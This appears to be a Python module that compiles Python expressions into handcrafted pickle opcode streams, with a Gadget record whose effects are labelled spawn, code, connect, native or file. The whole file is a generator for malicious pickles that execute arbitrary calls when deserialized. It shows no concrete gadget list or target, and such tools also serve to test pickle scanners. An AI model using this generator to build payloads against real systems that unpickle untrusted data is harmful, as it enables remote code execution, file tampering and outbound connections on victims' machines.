"""gadget_pickles - an expression as a pickle in memory that calls what it calls.

Names become STACK_GLOBAL, calls REDUCE, attributes of results calls of getattr. `M("a.b").c.d` is the name `c.d`
of the module `a.b`; a module of one word needs no M.
"""

from __future__ import annotations

import ast
import pickle
import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

OLD_MODULES = ("imp", "distutils", "mailcap", "nntplib", "telnetlib")  # gone in newer versions


@dataclass(frozen=True)
class Gadget:
    """One way from a pickle to an effect."""

    name: str
    expression: str
    effect: str  # what it does in the end: spawn, code, connect, native or file


class Writer:
    """Opcodes for one expression."""

    def __init__(self, words: dict[str, Any]) -> None:
        self.out = bytearray(b"\x80\x04")
        self.words = words

    def text(self, value: str) -> None:
        data = value.encode("utf-8")
        self.out += b"X" + struct.pack("<I", len(data)) + data

    def name(self, module: str, qualname: str) -> None:
        self.text(module)
        self.text(qualname)
        self.out += b"\x93"  # STACK_GLOBAL

    def items(self, nodes: list[ast.expr]) -> None:
        for node in nodes:
            self.visit(node)

    def visit(self, node: ast.expr) -> None:
        handler: Callable[[Any], None] = getattr(self, f"on_{type(node).__name__.lower()}")
        handler(node)

    def on_constant(self, node: ast.Constant) -> None:
        if isinstance(node.value, str):
            self.text(node.value)
        else:
            self.out += pickle.dumps(node.value, 2)[2:-1].replace(b"q\x00", b"")

    def on_name(self, node: ast.Name) -> None:
        if node.id in self.words:
            self.visit(ast.parse(repr(self.words[node.id]), mode="eval").body)
        elif node.id in sys.stdlib_module_names:
            raise ValueError(f"a module is no value: {node.id}")
        else:
            self.name("builtins", node.id)

    def on_attribute(self, node: ast.Attribute) -> None:
        path = [node.attr]
        root = node.value
        while isinstance(root, ast.Attribute):
            path.insert(0, root.attr)
            root = root.value
        module = module_of(root, self.words)
        if module:
            self.name(module, ".".join(path))
            return
        self.name("builtins", "getattr")
        self.out += b"("
        self.visit(node.value)
        self.text(node.attr)
        self.out += b"tR"

    def on_binop(self, node: ast.BinOp) -> None:
        self.name("operator", "add")
        self.out += b"("
        self.items([node.left, node.right])
        self.out += b"tR"

    def on_tuple(self, node: ast.Tuple) -> None:
        self.out += b"("
        self.items(node.elts)
        self.out += b"t"

    def on_list(self, node: ast.List) -> None:
        self.out += b"]("
        self.items(node.elts)
        self.out += b"e"

    def on_dict(self, node: ast.Dict) -> None:
        self.out += b"}("
        for key, value in zip(node.keys, node.values, strict=True):
            self.items([key, value] if key else [value])
        self.out += b"u"

    def on_call(self, node: ast.Call) -> None:
        if not node.keywords:
            self.visit(node.func)
            self.out += b"("
            self.items(node.args)
            self.out += b"tR"
            return
        # A partial of the function is given the state (function, arguments, keywords, None).
        self.name("functools", "partial")
        self.out += b"("
        self.visit(node.func)
        self.out += b"tR("
        self.visit(node.func)
        self.out += b"("
        self.items(node.args)
        self.out += b"t}("
        for keyword in node.keywords:
            self.text(str(keyword.arg))
            self.visit(keyword.value)
        self.out += b"uNtb)R"


def module_of(node: ast.expr, words: dict[str, Any]) -> str | None:
    """The module that an expression is: a word, or M("a.b")."""
    if isinstance(node, ast.Name) and node.id not in words and node.id in sys.stdlib_module_names:
        return node.id
    if isinstance(node, ast.Name) and node.id in OLD_MODULES:
        return node.id
    match node:
        case ast.Call(func=ast.Name(id="M"), args=[ast.Constant(value=str(name))]):
            return name
    return None


def compile_pickle(gadget: Gadget, words: dict[str, Any]) -> bytes:
    writer = Writer(words)
    writer.visit(ast.parse(gadget.expression, mode="eval").body)
    return bytes(writer.out) + b"."
